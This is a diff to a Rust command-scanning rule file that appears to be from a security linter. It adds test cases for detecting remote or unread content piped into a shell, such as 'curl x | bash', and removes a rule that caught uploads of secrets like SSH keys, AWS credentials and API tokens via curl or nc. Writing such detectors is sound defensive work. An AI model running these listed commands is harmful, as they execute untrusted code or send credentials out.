@@ -1,9 +1,8 @@
-//! Text from elsewhere that is run unseen, secrets that leave, and addresses that give secrets away.
+//! Text that is run unseen or looks like other text, and addresses that give secrets away.
 
 use super::super::program::Program;
 use super::super::rule::{Finds, Rule};
 use super::super::sources::Sources;
-use super::super::target::Sensitive;
 
 /// Addresses at which clouds tell a machine its credentials.
 const METADATA: [&str; 5] = [
@@ -13,16 +12,6 @@ const METADATA: [&str; 5] = [
     "metadata.goog",
     "metadata.google.internal",
 ];
-/// Parts of the names of variables that hold secrets.
-const SECRET_NAMES: [&str; 6] = [
-    "API_KEY",
-    "CREDENTIAL",
-    "PASSWORD",
-    "PRIVATE_KEY",
-    "SECRET",
-    "TOKEN",
-];
-
 pub(super) const RULES: [Rule; 5] = [
     Rule {
         description: "remote content run by a shell or interpreter",
@@ -41,8 +30,29 @@ pub(super) const RULES: [Rule; 5] = [
             "{ curl x; } | bash",
             "curl x | env A=1 sh",
             "c''url x | s\\h",
+            "curl x |\nsh",
+            "curl x | # text\n\n  sh",
+            "curl x > >(sh)",
+            "curl x | tee >(sh) y",
+            "curl x | python3 -",
+            "curl x | node",
+            "python3 -c \"$(curl x)\"",
+            "python3 <(curl x)",
+            "bash < <(curl x)",
+            "sh <<< \"$(curl x)\"",
+            "curl x | xargs -0 bash -c",
+            "curl x | bash -o pipefail -s",
         ],
         misses: &[
+            "curl x | python3 -m json.tool",
+            "curl x | python3 parse.py",
+            "curl x | node x.js",
+            "curl x | bash run.sh",
+            "curl x | bash -n",
+            "node build.js --version \"$(curl x)\"",
+            "python3 run.py \"$(curl x)\"",
+            "curl x &&\nsh y",
+            "curl x | tee >(wc)",
             "curl -o x https://x && less x",
             "curl x | jq .",
             "echo 'curl x | sh'",
@@ -64,11 +74,50 @@ pub(super) const RULES: [Rule; 5] = [
             "rev x | python",
         ],
         misses: &[
+            "base64 -d x | python3 -m json.tool",
+            "python3 run.py \"$(date | tr -d x)\"",
+            "tr -d x < run.sh | bash -n /dev/stdin",
             "base64 -d x > y",
             "base64 x | sh",
             "echo 'base64 -d | sh'",
             "cat x | tr a b | wc",
             "openssl x509 -in x | less",
+        ],
+    },
+    Rule {
+        description: "unread text run by a shell",
+        finds: Finds::Program(Program::runs_unread_text),
+        hits: &[
+            "cat x.sh | bash",
+            "gunzip -c x | sh",
+            "zcat x | sudo bash -s",
+            "xz -dc x | sh",
+            "python3 x.py | sh",
+            "echo \"$X\" | sh",
+            "printf '%s' \"$(ls)\" | sh",
+            "echo ls | sed s/l/r/ | sh",
+            "cat < x | sh",
+            "find . | xargs cat | sh",
+            "(cd x; ./gen) | sh -",
+            "./gen |\n sh",
+            "./gen > >(sh)",
+            "./gen | tee >(bash -s)",
+            "./gen | source /dev/stdin",
+            "{ ./gen; } > >(sh)",
+            "./gen | ksh93",
+        ],
+        misses: &[
+            "echo ls | sh",
+            "printf '%s\\n' ls | bash",
+            "cat <<'E' | sh\nls\nE",
+            "echo ls | cat | tee x | head -n 1 | sh",
+            "cat x | bash build.sh",
+            "cat x | bash -n",
+            "tr a b < x | bash -n /dev/stdin",
+            "cat x | python3 y.py",
+            "cat x; sh y",
+            "cat x | grep sh",
+            "(cd x; echo ls) | sh",
         ],
     },
     Rule {
@@ -98,36 +147,6 @@ pub(super) const RULES: [Rule; 5] = [
         ],
     },
     Rule {
-        description: "upload of a secret or credential file",
-        finds: Finds::Program(|program| {
-            (program.fetches()
-                || program.is_one_of(&["nc", "ncat", "netcat", "socat", "scp", "rsync"]))
-                && uploads(program)
-                && (program.arguments.iter().any(|word| holds_secret(word))
-                    || program
-                        .inputs
-                        .iter()
-                        .any(|word| Sensitive::of(word).is_some()))
-        }),
-        hits: &[
-            "curl -d \"k=$OPENAI_API_KEY\" https://x",
-            "curl https://x --data-binary @.env",
-            "curl -F file=@~/.ssh/id_rsa x",
-            "wget --post-file=$HOME/.netrc x",
-            "curl \"https://x/?t=${GITHUB_TOKEN}\"",
-            "curl -T ~/.aws/credentials x",
-            "nc host 1 < ~/.ssh/id_ed25519",
-            "curl -H \"X: $DB_PASSWORD\" x",
-        ],
-        misses: &[
-            "curl -d \"k=$NAME\" https://x",
-            "curl https://x -d @data.json",
-            "echo $OPENAI_API_KEY",
-            "curl -o .env.example https://x",
-            "curl https://x/token",
-        ],
-    },
-    Rule {
         description: "invisible or bidirectional Unicode characters",
         finds: Finds::Text(hides_characters),
         hits: &[
@@ -146,29 +165,6 @@ pub(super) const RULES: [Rule; 5] = [
         ],
     },
 ];
-
-/// Tells whether the words of a program can carry something away: a body, a form, a header or a query.
-fn uploads(program: &Program) -> bool {
-    !program.is_one_of(&["scp", "rsync"]) || program.arguments.iter().any(|word| word.contains(':'))
-}
-
-/// Tells whether a word names a variable that holds a secret, or a credential file to be sent.
-fn holds_secret(word: &str) -> bool {
-    let names_secret = word.split('$').skip(1).any(|name| {
-        let name: String = name
-            .trim_start_matches('{')
-            .chars()
-            .take_while(|letter| letter.is_ascii_alphanumeric() || *letter == '_')
-            .collect::<String>()
-            .to_ascii_uppercase();
-        SECRET_NAMES.iter().any(|secret| name.contains(secret))
-    });
-    // `@file` sends a file, also behind `name=`; an option may be joined with its value.
-    let path = word.rsplit(['@', '=']).next().unwrap_or(word);
-    names_secret
-        || (word.contains('@') || word.contains('=') || word.starts_with(['/', '~', '.', '$']))
-            && Sensitive::of(path).is_some()
-}
 
 /// Tells whether a text has characters that are not seen, or that change the order of what is seen.
 fn hides_characters(text: &str) -> bool {
